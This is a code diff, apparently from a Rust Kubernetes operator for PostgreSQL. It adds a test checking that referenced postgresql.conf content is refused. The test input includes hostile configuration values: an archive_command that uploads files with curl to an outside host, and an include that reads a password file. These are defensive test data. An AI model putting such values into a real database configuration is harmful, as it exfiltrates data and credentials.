@@ -38,7 +38,7 @@ lc_monetary = 'en_US.UTF-8'
 lc_numeric = 'en_US.UTF-8'
 lc_time = 'en_US.UTF-8'
 log_line_prefix = '%h %m [%p] %q%u@%d '
-log_statement = 'ddl'
+log_statement = 'none'
 log_timezone = 'UTC'
 maintenance_work_mem = '16MB'
 max_connections = '60'
@@ -254,8 +254,8 @@ fn refused_maps_and_malformed_references_say_what_and_where() {
     .unwrap_err();
     assert_eq!(
         e.to_string(),
-        "invalid postgresConfig: postgresConfig.port: managed by the operator and cannot be \
-         set: pgctld sets it on its command line; postgresConfig.shared_bufers: unknown \
+        "invalid postgresConfig: postgresConfig.port: cannot be set: pgctld sets it on the \
+         postgres command line or in its template; postgresConfig.shared_bufers: unknown \
          PostgreSQL 17 parameter; did you mean `shared_buffers`?"
     );
     let reference = PostgresConfigRef {
@@ -274,6 +274,49 @@ fn refused_maps_and_malformed_references_say_what_and_where() {
         "postgresConfigRef ConfigMap \"tuning\" key \"pg.conf\" is not valid postgresql.conf: \
          line 2: work_mem has no value"
     );
+}
+
+#[test]
+fn referenced_content_is_checked_by_the_same_rules_naming_configmap_key_and_parameter() {
+    let reference = PostgresConfigRef {
+        name: "tuning".into(),
+        key: "pg.conf".into(),
+    };
+    let content = "work_mem = 8MB\n\
+                   include '/etc/postgres-password/password'\n\
+                   wal_level = minimal\n\
+                   archive_command = 'curl -T %p http://x'\n";
+    let e = render(
+        NAME,
+        Resources::default(),
+        Some((&reference, content)),
+        &BTreeMap::new(),
+    )
+    .unwrap_err();
+    assert_eq!(
+        e.to_string(),
+        "postgresConfigRef ConfigMap \"tuning\" key \"pg.conf\" is refused and not rendered \
+         (the pods keep their last postgresql.conf): archive_command: cannot be set: runs a \
+         shell command as the postgres user, which can read the superuser password, S3 keys \
+         and backup cipher keys; Multigres sets archive_command and restore_command itself \
+         (pgBackRest); include: cannot be set: reads another file of the pod into the \
+         configuration; write the settings themselves; wal_level: cannot be set: Multigres \
+         needs the value the operator sets (logical WAL with hint bits, hot standbys, full \
+         page writes)"
+    );
+    for directive in ["include_if_exists 'x.conf'", "include_dir = '/etc'"] {
+        let e = render(
+            NAME,
+            Resources::default(),
+            Some((&reference, directive)),
+            &BTreeMap::new(),
+        )
+        .unwrap_err();
+        assert!(
+            matches!(&e, RenderError::ReferenceRefused { problems, .. } if problems.len() == 1),
+            "{e}"
+        );
+    }
 }
 
 #[test]
